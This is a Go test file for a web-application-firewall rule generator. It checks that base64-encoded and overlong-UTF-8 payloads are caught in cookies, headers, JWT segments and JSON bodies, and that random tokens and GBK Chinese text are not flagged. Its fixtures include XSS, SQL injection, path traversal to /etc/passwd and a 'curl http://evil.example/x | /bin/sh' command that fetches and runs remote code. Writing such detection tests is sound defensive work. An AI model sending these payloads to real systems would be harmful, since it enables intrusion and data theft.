package wafsynth

import (
	"encoding/base64"
	"math/rand"
	"regexp"
	"strings"
	"testing"

	"github.com/cfplane/cfplane/pkg/racetest"
	"github.com/cfplane/cfplane/pkg/rules"
	"github.com/cfplane/cfplane/pkg/wafreplay"
)

// Each token's three offset encodings find it wherever it sits in the
// encoded data, in the standard and URL-safe alphabets.
func TestBase64OffsetsFindTokenAtAnyOffset(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	for _, class := range []string{ClassSQLi, ClassXSS, ClassRCE, ClassLFI} {
		re := regexp.MustCompile(base64TokenRegex(class))
		for _, tok := range base64Tokens[class] {
			if len(tok) < 5 {
				t.Errorf("%s token %q: shorter than 5 bytes, its encodings could occur by chance", class, tok)
			}
			for pre := 0; pre < 6; pre++ {
				b := make([]byte, pre)
				rng.Read(b)
				data := append(append(b, tok...), "tail"[:rng.Intn(4)]...)
				for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.RawURLEncoding} {
					if s := enc.EncodeToString(data); !re.MatchString(s) {
						t.Errorf("%s: %q at offset %d not found in %s", class, tok, pre, s)
					}
				}
			}
		}
	}
}

// Random tokens (session ids, CSRF tokens, API keys in hex and base64)
// never look like an encoded attack token.
func TestBase64TokensIgnoreRandomTokens(t *testing.T) {
	racetest.SkipHeavy(t)
	rng := rand.New(rand.NewSource(2))
	var res []*regexp.Regexp
	for _, class := range []string{ClassSQLi, ClassXSS, ClassRCE, ClassLFI} {
		res = append(res, regexp.MustCompile(base64TokenRegex(class)))
	}
	for i := 0; i < 3000; i++ {
		b := make([]byte, 16+rng.Intn(48))
		rng.Read(b)
		for _, s := range []string{base64.StdEncoding.EncodeToString(b), base64.RawURLEncoding.EncodeToString(b), strings.ToLower(strings.TrimRight(base64.StdEncoding.EncodeToString(b), "="))} {
			for _, re := range res {
				if m := re.FindString(s); m != "" {
					t.Fatalf("random token %s matches %q", s, m)
				}
			}
		}
	}
}

// A base64 payload is caught where decode_base64 cannot reach it: a
// cookie value, a custom header, a JWT-style segment, a JSON value.
func TestBase64TokensInEveryPlace(t *testing.T) {
	b := func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }
	cases := []struct {
		class string
		req   wafreplay.Request
		plans []rules.Plan
	}{
		{ClassXSS, func() wafreplay.Request {
			r := browserGet("/", "")
			r.Headers["Cookie"] = "prefs=" + base64.StdEncoding.EncodeToString([]byte(`{"name":"<script>alert(1)</script>"}`))
			return r
		}(), []rules.Plan{rules.PlanBusiness, rules.PlanEnterprise}},
		{ClassSQLi, func() wafreplay.Request {
			r := browserGet("/", "")
			r.Headers["Authorization"] = "Bearer eyJhbGciOiJIUzI1NiJ9." + b(`{"sub":"1' UNION SELECT password FROM users--"}`) + ".c2ln"
			return r
		}(), []rules.Plan{rules.PlanBusiness, rules.PlanEnterprise}},
		{ClassRCE, func() wafreplay.Request {
			r := browserGet("/", "")
			r.Headers["X-Data"] = base64.StdEncoding.EncodeToString([]byte("x; curl http://evil.example/x | /bin/sh"))
			return r
		}(), []rules.Plan{rules.PlanBusiness, rules.PlanEnterprise}},
		{ClassLFI, browserPost("application/json", `{"file":"`+base64.StdEncoding.EncodeToString([]byte("../../../../etc/passwd"))+`"}`), []rules.Plan{rules.PlanEnterprise}},
	}
	for _, tc := range cases {
		for _, plan := range tc.plans {
			rq, err := wafreplay.PrepareFor(tc.req, plan)
			if err != nil {
				t.Fatal(err)
			}
			if !compileFor(t, tc.class, plan, Fields{}).Eval(rq, nil) {
				t.Errorf("%s/%s misses the base64 payload in %v %q", tc.class, plan, tc.req.Headers, tc.req.Body)
			}
		}
	}
}

// Overlong UTF-8 forms of a class's key characters are seen as sent in
// the URI, header values and the body, in an attack's context; the same
// byte pairs in GBK-encoded text (a %C0%AE pair is a Chinese character)
// are not.
func TestOverlongUTF8(t *testing.T) {
	for _, tc := range []struct {
		class string
		req   wafreplay.Request
	}{
		{ClassLFI, browserGet("/download", "f=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd")},
		{ClassLFI, func() wafreplay.Request {
			r := browserGet("/", "")
			r.Headers["X-Template"] = "..%c0%af..%c0%afetc/passwd"
			return r
		}()},
		{ClassXSS, func() wafreplay.Request {
			r := browserGet("/", "")
			r.Headers["Cookie"] = "q=%c0%bcscript%c0%bealert(1)"
			return r
		}()},
		{ClassSQLi, browserGet("/item", "id=1%c0%a7%20or%201=1")},
		{ClassRCE, browserGet("/ping", "host=127.0.0.1%c0%bbcat%20x")},
		{ClassRCE, browserGet("/ping", "host=127.0.0.1%25c0%25bbcat%20x")},
	} {
		for _, plan := range []rules.Plan{rules.PlanBusiness, rules.PlanEnterprise} {
			rq, _ := wafreplay.PrepareFor(tc.req, plan)
			if !compileFor(t, tc.class, plan, Fields{}).Eval(rq, nil) {
				t.Errorf("%s/%s misses overlong %s?%s %v", tc.class, plan, tc.req.Path, tc.req.Query, tc.req.Headers)
			}
		}
	}
	// GBK: 来了 (%C0%B4%C1%CB), 喇叭 (%C0%AE%C0%C8), 乐观 (%C0%D6%B9%DB).
	for _, q := range []string{"q=%C0%B4%C1%CB", "q=%C0%AE%C0%C8", "q=%C0%D6%B9%DB+%C0%A7", "q=abc%C0%BB"} {
		for _, class := range []string{ClassSQLi, ClassXSS, ClassRCE, ClassLFI} {
			rq, _ := wafreplay.PrepareFor(browserGet("/search", q), rules.PlanEnterprise)
			if compileFor(t, class, rules.PlanEnterprise, Fields{}).Eval(rq, nil) {
				t.Errorf("%s matches GBK text %s", class, q)
			}
		}
	}
}
